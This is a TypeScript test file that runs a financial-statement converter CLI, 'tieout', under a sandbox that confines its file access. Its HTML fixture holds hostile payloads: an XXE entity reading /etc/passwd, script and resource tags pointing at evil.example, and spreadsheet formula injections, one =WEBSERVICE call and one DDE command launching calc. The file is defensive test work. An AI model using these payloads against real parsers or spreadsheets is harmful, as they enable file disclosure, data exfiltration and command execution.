import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'

const ROOT = fileURLToPath(new URL('../../', import.meta.url))
const CONFINE = fileURLToPath(new URL('confine.cjs', import.meta.url))

/** The release as strangers would like to have it read: with what makes a careless reader fetch, open or run something. */
const HOSTILE = `<!DOCTYPE html SYSTEM "http://evil.example/x.dtd" [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<html><head><base href="http://evil.example/"><script src="http://evil.example/x.js"></script>
<link rel="stylesheet" href="http://evil.example/x.css"><meta http-equiv="refresh" content="0;url=http://evil.example/">
</head><body><img src="http://evil.example/x.png"><iframe src="file:///etc/passwd"></iframe>
<p>Acme Statements of Operations (In thousands)</p><table>
<tr><td></td><td>2024</td><td>2023</td></tr>
<tr><td>=WEBSERVICE("http://evil.example/")</td><td>610</td><td>560</td></tr>
<tr><td>&e; =cmd|' /C calc'!A0</td><td>390</td><td>340</td></tr>
<tr><td>Total revenue</td><td>1,000</td><td>900</td></tr></table></body></html>`

let folder = ''
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'tieout-confined-')))
  for (const name of ['in', 'out']) mkdirSync(join(folder, name))
  writeFileSync(join(folder, 'in', 'acme.htm'), HOSTILE)
})
afterEach(() => rmSync(folder, { recursive: true, force: true }))

describe('tieout reads what it is given and itself, writes what it is told to, and reaches nothing else:', () => {
  test('build, check, inspect, text and diff', () => {
    const release = join(folder, 'in', 'acme.htm')
    const book = join(folder, 'out', 'acme.xlsx')
    expect(confined('build', release, '-o', book)).toEqual({ status: 0, refused: undefined })
    expect(confined('build', release, '-o', book)).toEqual({ status: 0, refused: undefined })
    expect(confined('check', release)).toEqual({ status: 0, refused: undefined })
    expect(confined('inspect', release)).toEqual({ status: 0, refused: undefined })
    expect(confined('text', book)).toEqual({ status: 0, refused: undefined })
    for (const format of ['html', 'xlsx'])
      expect(confined('diff', book, book, '--format', format, '-o', join(folder, 'out', `report.${format}`))).toEqual({
        status: 0,
        refused: undefined,
      })
    expect(readdirSync(join(folder, 'out')).sort()).toEqual(['acme.xlsx', 'report.html', 'report.xlsx'])
    expect(readdirSync(join(folder, 'in'))).toEqual(['acme.htm'])
  })

  test('what is outside would be noticed', () => {
    writeFileSync(join(folder, 'secret.txt'), HOSTILE)
    const release = join(folder, 'in', 'acme.htm')
    expect(confined('check', join(folder, 'secret.txt'))).toEqual({
      status: 99,
      refused: expect.stringMatching(/^refused: \w+ .*secret\.txt$/),
    })
    expect(confined('build', release, '-o', join(folder, 'acme.xlsx'))).toEqual({
      status: 99,
      refused: expect.stringMatching(/^refused: \w+ .*acme\.xlsx/),
    })
    expect(confined('check', join(folder, 'out', 'none.xlsx')).status).toBe(2)
  })

  /** Runs the command with a script that refuses all else. */
  function confined(...args: string[]): { status: number | null; refused: string | undefined } {
    const own = ['dist', 'package.json'].map((name) => join(ROOT, name))
    const { status, stderr } = spawnSync(
      process.execPath,
      ['--require', CONFINE, join(ROOT, 'dist', 'cli.js'), ...args],
      {
        encoding: 'utf8',
        cwd: folder,
        env: { ...process.env, READABLE: [...own, join(folder, 'in')].join(':'), WRITABLE: join(folder, 'out') },
      },
    )
    return { status, refused: /^refused: .*$/m.exec(stderr)?.[0] }
  }
})
